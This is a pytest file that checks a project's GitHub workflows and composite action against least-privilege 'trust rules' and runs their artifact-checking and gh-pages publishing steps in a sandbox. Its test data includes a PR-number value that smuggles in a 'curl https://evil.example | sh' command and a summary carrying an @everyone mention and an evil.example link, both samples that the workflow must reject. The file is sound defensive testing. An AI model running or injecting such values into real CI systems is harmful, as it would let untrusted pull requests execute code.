"""The GitHub workflows and the composite action users copy: GitHub's schemas (as vendored by
check-jsonschema, offline), actionlint where a binary is on PATH, the rules that keep them from
being turned against their users (SPEC.md, "Trust"), the untrusted-artifact checks of the
comment workflow run for real, and the install and gh-pages publishing steps run for real
against a temporary git repository standing in for GitHub."""
from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path
from typing import Dict, List, Tuple

import pytest
import yaml

from tests.published import build_reports

REPO = Path(__file__).resolve().parent.parent
WORKFLOWS = sorted((REPO / "example_configs" / "github").glob("*.yml"))
ACTION = REPO / "action.yml"


def _check_jsonschema(schema: str, files: List[Path]) -> subprocess.CompletedProcess:
    pytest.importorskip("check_jsonschema", reason="check-jsonschema is in the test extra")
    return subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema,
                           *map(str, files)], capture_output=True, text=True, timeout=120)


def test_there_are_workflows_for_push_and_pull_request():
    names = {p.name for p in WORKFLOWS}
    assert {"publish-pages.yml", "publish-pages-artifact.yml", "pr-review.yml"} <= names
    triggers = {p.name: yaml.load(p.read_text(), Loader=yaml.BaseLoader)["on"] for p in WORKFLOWS}
    assert "push" in triggers["publish-pages.yml"] and "pull_request" in triggers["pr-review.yml"]


def test_workflows_match_githubs_schema():
    result = _check_jsonschema("vendor.github-workflows", WORKFLOWS)
    print(result.stdout, result.stderr)
    assert result.returncode == 0, result.stdout + result.stderr


def test_action_matches_githubs_schema():
    result = _check_jsonschema("vendor.github-actions", [ACTION])
    print(result.stdout, result.stderr)
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.skipif(shutil.which("actionlint") is None, reason="no actionlint binary on PATH")
def test_actionlint():
    result = subprocess.run(["actionlint", *map(str, WORKFLOWS)], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


def _run_blocks(path: Path):
    data = yaml.safe_load(path.read_text())
    jobs = data["jobs"].values() if "jobs" in data else [data["runs"]]
    return [(s.get("name") or s.get("id"), s["run"]) for job in jobs for s in job["steps"] if "run" in s]


@pytest.mark.parametrize("path", WORKFLOWS + [ACTION], ids=lambda p: p.name)
def test_every_run_block_is_valid_bash(path):
    blocks = _run_blocks(path)
    assert blocks
    for name, script in blocks:
        script = re.sub(r"\$\{\{.*?\}\}", "EXPR", script)      # GitHub expressions: filled in before bash runs
        done = subprocess.run(["bash", "-n", "-c", script], capture_output=True, text=True)
        assert done.returncode == 0, f"{path.name}: {name}: {done.stderr}"


# --------------------------------------------------------------------------- trust rules
# Each rule reads one parsed workflow (or the action) and returns what breaks it. Every rule is
# run over every shipped file, and over a small file that breaks it, so a rule that can no
# longer see its regression fails too.

SCOPES = ("actions", "attestations", "checks", "contents", "deployments", "discussions", "id-token", "issues",
          "packages", "pages", "pull-requests", "repository-projects", "security-events", "statuses")
PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")
USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*[\"']?(?P<ref>[^\s\"'#]+)[\"']?(?P<rest>.*)$")
VERSION_COMMENT = re.compile(r"\s+#\s*v\d+(\.\d+)*\b")
PIP_INSTALL = re.compile(r"\bpip[x3]?\s+install\b(?P<args>[^\n;&|)]*)")
PIP_OPTIONS = {"-q", "--quiet", "--no-deps", "--no-input", "--disable-pip-version-check", "-U", "--upgrade"}
PATH_ARG = re.compile(r"(\.{1,2}(/|$|\[)|/|\$\{?(GITHUB_ACTION_PATH|GITHUB_WORKSPACE|RUNNER_TEMP)\b)")
SHA = re.compile(r"[0-9a-f]{40}")


class Doc:
    """A workflow or the composite action: its text, its data, its triggers and jobs."""

    def __init__(self, name: str, text: str):
        self.name, self.text = name, text
        self.data = yaml.safe_load(text)
        self.is_action = "runs" in self.data
        self.on = self.data.get("on", self.data.get(True)) or {}     # YAML 1.1 reads the key `on` as true
        self.triggers = {self.on} if isinstance(self.on, str) else set(self.on)
        self.jobs = {"(action)": self.data["runs"]} if self.is_action else self.data.get("jobs", {})

    def steps(self):
        for job_name, job in self.jobs.items():
            for step in job.get("steps", []):
                yield job_name, step

    def scripts(self):
        """(job, step, text) of every shell script and github-script script."""
        for job_name, step in self.steps():
            if "run" in step:
                yield job_name, step, step["run"]
            if str(step.get("uses", "")).startswith("actions/github-script@"):
                yield job_name, step, step.get("with", {}).get("script", "")

    def permissions(self, job_name: str) -> Dict[str, str]:
        """What the job's token may do: its own `permissions`, else the workflow's, else (unset)
        whatever the repository's default is, which may be write to everything."""
        value = self.jobs[job_name].get("permissions", self.data.get("permissions"))
        if value is None or value == "write-all":
            return dict.fromkeys(SCOPES, "write")
        if value == "read-all":
            return dict.fromkeys(SCOPES, "read")
        return dict(value)

    def env(self, job_name: str) -> Dict[str, str]:
        return {**self.data.get("env", {}), **self.jobs[job_name].get("env", {})}


def _checkout(step) -> bool:
    return str(step.get("uses", "")).startswith("actions/checkout@")


def rule_actions_pinned_by_commit(doc: Doc) -> List[str]:
    used = {str(s["uses"]) for _, s in doc.steps() if "uses" in s} | {
        str(j["uses"]) for j in doc.jobs.values() if "uses" in j}
    lines = [m for m in map(USES_LINE.match, doc.text.splitlines()) if m]
    problems = [f"{ref}: not found on a `uses:` line of its own" for ref in used - {m["ref"] for m in lines}]
    for m in lines:
        if m["ref"].startswith(("./", "docker://")):
            continue
        if not PINNED.fullmatch(m["ref"]):
            problems.append(f"{m['ref']}: not pinned by a full 40-hex commit SHA")
        elif not VERSION_COMMENT.match(m["rest"]):
            problems.append(f"{m['ref']}: no `# vX.Y.Z` comment naming the version the SHA is")
    return problems


def rule_checkout_keeps_no_credentials(doc: Doc) -> List[str]:
    return [f"{job}: {s.get('name') or s['uses']}: persist-credentials is not false"
            for job, s in doc.steps()
            if _checkout(s) and s.get("with", {}).get("persist-credentials") not in (False, "false")]


def rule_no_write_at_workflow_level(doc: Doc) -> List[str]:
    if doc.is_action:
        return []
    top = doc.data.get("permissions")
    if top is None:
        return ["no top-level permissions: every job gets the repository's default, maybe write-all"]
    if isinstance(top, str):
        return [] if top == "read-all" else [f"top-level permissions: {top}"]
    return [f"top-level permissions: {k}: {v}" for k, v in top.items() if v == "write"]


def rule_pages_write_only_in_the_deploy_job(doc: Doc) -> List[str]:
    problems = []
    for job in doc.jobs if not doc.is_action else ():
        perms = doc.permissions(job)
        if "write" not in (perms.get("pages"), perms.get("id-token")):
            continue
        env = doc.jobs[job].get("environment")
        env = env.get("name") if isinstance(env, dict) else env
        deploys = any(str(s.get("uses", "")).startswith("actions/deploy-pages@")
                      for s in doc.jobs[job].get("steps", []))
        if env != "github-pages" or not deploys:
            problems.append(f"{job}: pages or id-token write without deploying to the github-pages environment")
    return problems


def rule_contents_write_only_to_push_gh_pages(doc: Doc) -> List[str]:
    return [f"{job}: contents: write but it does not push gh-pages"
            for job in (doc.jobs if not doc.is_action else ()) if doc.permissions(job).get("contents") == "write"
            and not any("HEAD:refs/heads/gh-pages" in s.get("run", "") for s in doc.jobs[job].get("steps", []))]


def rule_comment_permission_only_after_workflow_run(doc: Doc) -> List[str]:
    return [f"{job}: {scope}: write in a workflow started by {sorted(doc.triggers)}, not only workflow_run"
            for job in (doc.jobs if not doc.is_action else ()) for scope in ("pull-requests", "issues")
            if doc.permissions(job).get(scope) == "write" and doc.triggers != {"workflow_run"}]


def rule_pull_request_jobs_are_read_only(doc: Doc) -> List[str]:
    if "pull_request" not in doc.triggers:
        return []
    return [f"{job}: {scope}: write in a workflow that runs the PR's code"
            for job in doc.jobs for scope, level in doc.permissions(job).items() if level == "write"]


def rule_no_pull_request_target(doc: Doc) -> List[str]:
    return ["pull_request_target runs with the base repository's token next to the PR's code"] \
        if "pull_request_target" in doc.triggers else []


def rule_no_expressions_in_scripts(doc: Doc) -> List[str]:
    """GitHub pastes `${{ }}` into the script before bash or node reads it: a PR title, a branch
    name or an input would be code. Values reach scripts through `env:` only."""
    return [f"{job}: {s.get('name') or s.get('id') or s.get('uses')}: {m.group(0)} in a script"
            for job, s, text in doc.scripts() for m in re.finditer(r"\$\{\{[^}]*\}\}", text)]


def rule_pip_installs_paths_only(doc: Doc) -> List[str]:
    problems = []
    for job, _, text in doc.scripts():
        for m in PIP_INSTALL.finditer(text.replace("\\\n", " ")):
            for arg in shlex.split(m["args"], comments=True):
                if arg.startswith("-") and arg not in PIP_OPTIONS:
                    problems.append(f"{job}: pip install option {arg} (it could name an index or a package)")
                elif not arg.startswith("-") and not PATH_ARG.match(arg):
                    problems.append(f"{job}: pip install {arg}: a name from an index, not this repository")
    return problems


def rule_reportgen_from_a_pinned_commit(doc: Doc) -> List[str]:
    """A job that runs reportgen installs it from a checkout of its repository at a 40-hex SHA
    (or, in the action, from the action's own checkout)."""
    problems = []
    for job in doc.jobs:
        runs = [s.get("run", "") for s in doc.jobs[job].get("steps", [])]
        if not any(re.search(r"^\s*reportgen \w", r, re.M) for r in runs):
            continue
        if doc.is_action:
            paths = ['"$GITHUB_ACTION_PATH"']
        else:
            env = doc.env(job)
            pinned = [s["with"] for s in doc.jobs[job]["steps"] if _checkout(s) and "repository" in s.get("with", {})]
            shas = {w.get("path"): re.sub(r"\$\{\{\s*env\.(\w+)\s*\}\}", lambda e, env=env: str(env.get(e[1], "")),
                                         str(w.get("ref", ""))) for w in pinned}
            paths = [f"./{p}" for p, sha in shas.items() if p and SHA.fullmatch(sha)]
        if not any(f"pip install {p}" in r for r in runs for p in paths):
            problems.append(f"{job}: runs reportgen without installing it from a pinned checkout {paths or ''}")
    return problems


def rule_workflow_run_never_checks_out_pr_code(doc: Doc) -> List[str]:
    if "workflow_run" not in doc.triggers:
        return []
    problems = [f"{job}: checkout of {s['with']}: a ref or repository from the event (the PR's code)"
                for job, s in doc.steps() if _checkout(s) and "github.event" in json.dumps(s.get("with", {}))]
    problems += [f"{job}: fetches PR code in a script" for job, _, text in doc.scripts()
                 if re.search(r"gh pr checkout|refs/pull/|\bgit\s+(fetch|checkout|clone|switch|pull)\b", text)]
    return problems


def rule_comments_posted_only_after_workflow_run(doc: Doc) -> List[str]:
    """A workflow that runs the PR's code never holds a token that may comment: comments come
    from the workflow_run half (or the action, in whatever job the user gives it)."""
    if doc.is_action or doc.triggers == {"workflow_run"}:
        return []
    return [f"{job}: posts a comment in a workflow started by {sorted(doc.triggers)}"
            for job, _, text in doc.scripts() if re.search(r"createComment|updateComment|issues/\S*comments", text)]


def rule_comment_lookup_is_the_bots_own(doc: Doc) -> List[str]:
    problems = []
    for job, _, text in doc.scripts():
        if not re.search(r"updateComment|-X PATCH", text):
            continue
        if not (re.search(r"login\W+github-actions\[bot\]", text) and re.search(r"type\W+Bot\b", text)):
            problems.append(f"{job}: updates a comment found without checking it is github-actions[bot]'s")
        if re.search(r"startsWith|startswith", text):
            problems.append(f"{job}: finds the comment by a prefix, not by its exact marker line")
    return problems


RULES = {f.__name__[len("rule_"):]: f for f in (
    rule_actions_pinned_by_commit, rule_checkout_keeps_no_credentials, rule_no_write_at_workflow_level,
    rule_pages_write_only_in_the_deploy_job, rule_contents_write_only_to_push_gh_pages,
    rule_comment_permission_only_after_workflow_run, rule_pull_request_jobs_are_read_only,
    rule_no_pull_request_target, rule_no_expressions_in_scripts, rule_pip_installs_paths_only,
    rule_reportgen_from_a_pinned_commit, rule_workflow_run_never_checks_out_pr_code,
    rule_comments_posted_only_after_workflow_run, rule_comment_lookup_is_the_bots_own)}

_PIN = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"
# one small file per rule that breaks it (and, as far as it can, only it)
BROKEN = {
    "actions_pinned_by_commit": "on: push\npermissions: {}\njobs:\n  j:\n    steps:\n"
                                "      - uses: actions/checkout@v4\n",
    "checkout_keeps_no_credentials": f"on: push\njobs:\n  j:\n    steps:\n      - uses: {_PIN}  # v4.2.2\n",
    "no_write_at_workflow_level": "on: push\npermissions:\n  contents: write\njobs:\n  j:\n    steps: []\n",
    "pages_write_only_in_the_deploy_job": "on: push\njobs:\n  build:\n    permissions:\n      pages: write\n"
                                          "      id-token: write\n    steps: []\n",
    "contents_write_only_to_push_gh_pages": "on: push\njobs:\n  j:\n    permissions:\n      contents: write\n"
                                            "    steps:\n      - run: make\n",
    "comment_permission_only_after_workflow_run": "on: pull_request\njobs:\n  j:\n    permissions:\n"
                                                  "      pull-requests: write\n    steps: []\n",
    "pull_request_jobs_are_read_only": "on: pull_request\njobs:\n  j:\n    steps: []\n",
    "no_pull_request_target": "on: pull_request_target\npermissions: {}\njobs:\n  j:\n    steps: []\n",
    "no_expressions_in_scripts": "on: pull_request\njobs:\n  j:\n    steps:\n"
                                 "      - run: echo \"${{ github.event.pull_request.title }}\"\n",
    "pip_installs_paths_only": "on: push\njobs:\n  j:\n    steps:\n      - run: pip install reportgen\n",
    "reportgen_from_a_pinned_commit": "on: push\nenv:\n  REPORTGEN_SHA: main\njobs:\n  j:\n    steps:\n"
                                      f"      - uses: {_PIN}  # v4.2.2\n        with:\n"
                                      "          repository: o/reportgen\n"
                                      "          ref: ${{ env.REPORTGEN_SHA }}\n          path: r\n"
                                      "      - run: pip install ./r\n      - run: reportgen build s.yaml\n",
    "workflow_run_never_checks_out_pr_code": "on: workflow_run\njobs:\n  j:\n    steps:\n"
                                             f"      - uses: {_PIN}  # v4.2.2\n        with:\n"
                                             "          ref: ${{ github.event.workflow_run.head_sha }}\n",
    "comments_posted_only_after_workflow_run": "on: pull_request\njobs:\n  j:\n    steps:\n"
                                               "      - uses: actions/github-script@x\n        with:\n"
                                               "          script: github.rest.issues.createComment({})\n",
    "comment_lookup_is_the_bots_own": "on: workflow_run\njobs:\n  j:\n    steps:\n"
                                      "      - run: gh api -X PATCH "
                                      "$(gh api c --jq 'select(.body | startswith(\"m\"))')\n",
}
DOCS = [Doc(p.name, p.read_text()) for p in WORKFLOWS + [ACTION]]


@pytest.mark.parametrize("rule", RULES)
def test_trust_rule_holds_in_every_workflow_and_the_action(rule):
    problems = [f"{doc.name}: {p}" for doc in DOCS for p in RULES[rule](doc)]
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("rule", RULES)
def test_trust_rule_sees_its_regression(rule):
    assert RULES[rule](Doc("broken.yml", BROKEN[rule]))


def test_pull_requests_are_reviewed_in_two_workflows():
    """The PR's code runs in a pull_request workflow that may not write; the comment comes from a
    workflow_run workflow started by it."""
    docs = {d.name: d for d in DOCS}
    review, comment = docs["pr-review.yml"], docs["pr-comment.yml"]
    assert review.triggers == {"pull_request"} and comment.triggers == {"workflow_run"}
    assert comment.on["workflow_run"]["workflows"] == [review.data["name"]]


# --------------------------------------------------------------------------- steps run for real

GITHUB = REPO / "example_configs" / "github"
RUN_URL = "https://github.com/o/r/actions/runs/7"


def _git(*args: str, cwd: Path) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


def _job(workflow: str, job: str) -> Tuple[Dict[str, str], dict]:
    """A workflow's env and one of its jobs."""
    data = yaml.safe_load((GITHUB / workflow).read_text())
    return data.get("env", {}), data["jobs"][job]


def _run_step(workflow_env: Dict[str, str], step: dict, cwd: Path, **env: str) -> subprocess.CompletedProcess:
    """One `run:` step as GitHub runs it (bash --noprofile --norc -eo pipefail), with the
    workflow's and the step's env, then ``env`` (what the runner sets, what the user filled in).
    PYTHONPATH is dropped: a step sees only the reportgen that PATH gives it."""
    full = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    full.update({k: str(v) for k, v in {**workflow_env, **step.get("env", {})}.items()})
    full.update(GIT_TERMINAL_PROMPT="0", GITHUB_SERVER_URL="https://github.com", **env)
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
                          cwd=cwd, env=full, capture_output=True, text=True, timeout=300)


@pytest.fixture
def reportgen_on_path(tmp_path) -> Path:
    """A `reportgen` command on PATH that runs this checkout."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    shim = bin_dir / "reportgen"
    shim.write_text(f'#!/bin/sh\nPYTHONPATH="{REPO}" exec "{sys.executable}" -m reportgen "$@"\n')
    shim.chmod(0o755)
    return bin_dir


@pytest.fixture(scope="module")
def reports(tmp_path_factory):
    return build_reports(tmp_path_factory.mktemp("reports"))


# --------------------------------------------------------------------------- the comment workflow's checks

def _artifact(work: Path, report: Path, name: str = "reportgen-pr-review", **files: str) -> Path:
    """What a review run uploads (`name` downloaded into untrusted/): report/, pr-number, gate."""
    folder = work / "untrusted" / name
    shutil.copytree(report, folder / "report")
    for fname, text in {"pr-number": "17\n", "gate": "0\n", **files}.items():
        (folder / {"pr_number": "pr-number", "summary_md": "summary.md"}.get(fname, fname)).write_text(text)
    return folder


def _read_artifacts(work: Path, bin_dir: Path) -> Tuple[subprocess.CompletedProcess, Dict[str, str]]:
    """pr-comment.yml's step that checks the downloaded artifacts and renders the summaries."""
    workflow_env, job = _job("pr-comment.yml", "comment")
    step = next(s for s in job["steps"] if s.get("id") == "read")
    (work / "tmp").mkdir()
    (work / "output").touch()
    done = _run_step(workflow_env, step, work, RUN_URL=RUN_URL, RUNNER_TEMP=str(work / "tmp"),
                     GITHUB_OUTPUT=str(work / "output"), PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    outputs = dict(line.split("=", 1) for line in (work / "output").read_text().splitlines())
    return done, outputs


def test_comment_workflow_renders_the_summary_itself(tmp_path, reports, reportgen_on_path):
    _artifact(tmp_path, reports.builds[2], gate="3\n", summary_md="@everyone ![x](https://evil.example/x.png)\n")
    _artifact(tmp_path, reports.compare, "reportgen-pr-compare")
    done, outputs = _read_artifacts(tmp_path, reportgen_on_path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert outputs == {"pr": "17", "ids": "pr-review pr-compare", "tripped": "true"}
    for summary_id in ("pr-review", "pr-compare"):
        text = (tmp_path / "tmp" / f"{summary_id}.md").read_text()
        assert text.startswith(f"<!-- reportgen:{summary_id} -->\n") and f"]({RUN_URL})" in text
        assert "@everyone" not in text and "evil.example" not in text     # the PR's own summary.md is never read


BAD_FINDING = {"id": "x", "severity": "critical", "title": "t", "evidence": "e"}
UNTRUSTED = {   # what a PR's code could put in its artifact: the step refuses each
    "number-with-a-command": {"pr_number": "17; curl https://evil.example | sh\n"},
    "number-zero": {"pr_number": "0\n"},
    "no-number": {"pr_number": ""},
    "two-numbers": {"pr_number": "17\n18\n"},
    "gate-not-0-or-3": {"gate": "1\n"},
    "report-json-reportgen-rejects": {"report/report.json": json.dumps({"reportgen": "0.1.0",
                                                                        "findings": [BAD_FINDING]})},
    "other-pr-in-the-compare": {},
    "no-artifact": {},
}


@pytest.mark.parametrize("case", UNTRUSTED)
def test_comment_workflow_refuses_an_untrusted_artifact(tmp_path, reports, reportgen_on_path, case):
    if case == "no-artifact":
        (tmp_path / "untrusted").mkdir()
    else:
        _artifact(tmp_path, reports.builds[0], **{k: v for k, v in UNTRUSTED[case].items() if "/" not in k})
        for fname, text in UNTRUSTED[case].items():
            if "/" in fname:
                (tmp_path / "untrusted" / "reportgen-pr-review" / fname).write_text(text)
    if case == "other-pr-in-the-compare":
        _artifact(tmp_path, reports.compare, "reportgen-pr-compare", pr_number="18\n")
    done, outputs = _read_artifacts(tmp_path, reportgen_on_path)
    print(done.stdout, done.stderr)
    assert done.returncode != 0 and outputs == {}
    if case == "report-json-reportgen-rejects":
        assert done.returncode == 2 and "severity: 'critical' is not one of" in done.stderr
    assert "evil.example" not in done.stdout + done.stderr        # untrusted text is not echoed to the log


# --------------------------------------------------------------------------- install, then publish to gh-pages

PUBLISH_STEPS = ("pages-checkout", "publish")


def _head() -> str:
    if not (REPO / ".git").exists():
        pytest.skip("not a git checkout: no commit to pin")
    return _git("rev-parse", "HEAD", cwd=REPO).strip()


def _pinned_checkout(job: dict, work: Path, sha: str) -> None:
    """actions/checkout of reportgen's repository at the pinned commit, into the job's path:
    here a clone of this repository at ``sha``."""
    path = next(s["with"]["path"] for s in job["steps"] if "repository" in s.get("with", {}))
    _git("clone", "-q", "--shared", "--no-checkout", str(REPO), str(work / path), cwd=REPO)
    _git("checkout", "-q", "--detach", sha, cwd=work / path)


@pytest.fixture
def runner(tmp_path) -> Dict[str, str]:
    """The env of a runner whose Python has reportgen's dependencies but not reportgen: a fresh
    venv that sees this interpreter's packages through a .pth file (after its own), a `pip`
    that is that venv's, and pip told never to reach an index."""
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120)
    purelib = subprocess.run([str(venv / "bin" / "python"), "-c",
                              "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
                             check=True, capture_output=True, text=True).stdout.strip()
    ours = sysconfig.get_paths()
    Path(purelib, "dependencies.pth").write_text(f"{ours['purelib']}\n{ours['platlib']}\n")
    pip = venv / "bin" / "pip"
    pip.write_text(f'#!/bin/sh\nexec "{venv}/bin/python" -m pip "$@"\n')
    pip.chmod(0o755)
    return {"PATH": f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}", "VIRTUAL_ENV": str(venv),
            "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INDEX": "1", "PIP_NO_DEPS": "1", "PIP_NO_BUILD_ISOLATION": "0",
            "PIP_IGNORE_INSTALLED": "1", "PIP_DISABLE_PIP_VERSION_CHECK": "1", "PIP_NO_INPUT": "1"}


def _run_publish_job(origin: Path, work: Path, report: Path, sha: str, runner: Dict[str, str],
                     install: bool = False) -> str:
    """What the publish job does on a fresh runner: clone (actions/checkout), on the first run
    check out reportgen at the pinned commit and run the workflow's install step, build (here:
    copy a built report into build/report), then the workflow's own gh-pages steps."""
    _git("clone", "-q", origin.as_uri(), str(work), cwd=work.parent)
    workflow_env, job = _job("publish-pages.yml", "publish")
    ids = ("install",) * install + PUBLISH_STEPS
    steps = [s for s in job["steps"] if s.get("id") in ids]
    assert [s["id"] for s in steps] == list(ids)
    if install:
        _pinned_checkout(job, work, _head())
    out = []
    for step in steps:
        if step["id"] == PUBLISH_STEPS[0]:
            shutil.copytree(report, work / "build" / "report")
        done = _run_step(workflow_env, step, work, GITHUB_SHA=sha, REPORTGEN_SHA=_head(), **runner)
        out.append(done.stdout + done.stderr)
        assert done.returncode == 0, f"step {step['id']} failed:\n{done.stdout}\n{done.stderr}"
    return "\n".join(out)


def _tree(origin: Path, ref: str) -> List[str]:
    return sorted(_git("ls-tree", "-r", "--name-only", ref, cwd=origin).split())


def test_gh_pages_publishing_steps_commit_only_what_changed(tmp_path, reports, runner):
    origin = tmp_path / "origin.git"
    _git("init", "-q", "--bare", "-b", "main", str(origin), cwd=tmp_path)
    seed = tmp_path / "seed"
    _git("init", "-q", "-b", "main", str(seed), cwd=tmp_path)
    (seed / "README.md").write_text("a model\n")
    for args in (("add", "README.md"), ("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "init"),
                 ("push", "-q", origin.as_uri(), "main")):
        _git(*args, cwd=seed)

    # first publish: installs reportgen from the pinned commit, creates the gh-pages branch
    log = _run_publish_job(origin, tmp_path / "run1", reports.builds[0], "a" * 40, runner, install=True)
    assert "Successfully installed cnn-reportgen" in log
    venv = Path(runner["VIRTUAL_ENV"])
    assert shutil.which("reportgen", path=runner["PATH"]) == str(venv / "bin" / "reportgen")
    where = subprocess.run([str(venv / "bin" / "python"), "-c", "import reportgen; print(reportgen.__file__)"],
                           cwd=tmp_path, capture_output=True, text=True, check=True,
                           env={k: v for k, v in os.environ.items() if k != "PYTHONPATH"}).stdout
    assert where.startswith(str(venv)), where                 # the installed copy, not this checkout
    ids = [r["id"] for r in json.loads(_git("show", "gh-pages:manifest.json", cwd=origin))["reports"]]
    assert _tree(origin, "gh-pages") == [".nojekyll", "index.html", "manifest.json",
                                         f"reports/{ids[0]}/index.html", f"reports/{ids[0]}/report.json"]
    # second publish, another report: one small commit
    _run_publish_job(origin, tmp_path / "run2", reports.builds[1], "b" * 40, runner)
    ids = [r["id"] for r in json.loads(_git("show", "gh-pages:manifest.json", cwd=origin))["reports"]]
    changed = sorted(_git("diff", "--name-only", "gh-pages~1", "gh-pages", cwd=origin).split())
    print("changed by the second publish:", changed)
    assert changed == ["index.html", "manifest.json", f"reports/{ids[1]}/index.html", f"reports/{ids[1]}/report.json"]
    assert _git("log", "-1", "--format=%s", "gh-pages", cwd=origin).strip() == "reportgen: publish bbbbbbbb"
    # the same report again: nothing to commit
    log = _run_publish_job(origin, tmp_path / "run3", reports.builds[1], "c" * 40, runner)
    assert "The site did not change." in log
    assert _git("rev-list", "--count", "gh-pages", cwd=origin).strip() == "2"
    assert _git("rev-list", "--count", "main", cwd=origin).strip() == "1"      # main untouched


INSTALL_STEPS = [(p.name, name) for p in WORKFLOWS for name, job in yaml.safe_load(p.read_text())["jobs"].items()
                 if any(s.get("id") == "install" for s in job.get("steps", []))]


@pytest.mark.parametrize("workflow, job_name", INSTALL_STEPS)
@pytest.mark.parametrize("pin", ["main", "v0.1.0", "0" * 40])
def test_install_step_refuses_anything_but_the_pinned_commit(tmp_path, workflow, job_name, pin):
    """A branch, a tag or the placeholder SHA left as it is: the install stops before pip."""
    workflow_env, job = _job(workflow, job_name)
    _pinned_checkout(job, tmp_path, _head())
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "pip").write_text("#!/bin/sh\necho pip ran\n")
    (fake / "pip").chmod(0o755)
    step = next(s for s in job["steps"] if s.get("id") == "install")
    done = _run_step(workflow_env, step, tmp_path, REPORTGEN_SHA=pin, PATH=f"{fake}{os.pathsep}{os.environ['PATH']}")
    assert done.returncode == 1 and "pip ran" not in done.stdout
    assert "REPORTGEN_SHA must be the full 40-hex commit" in done.stdout
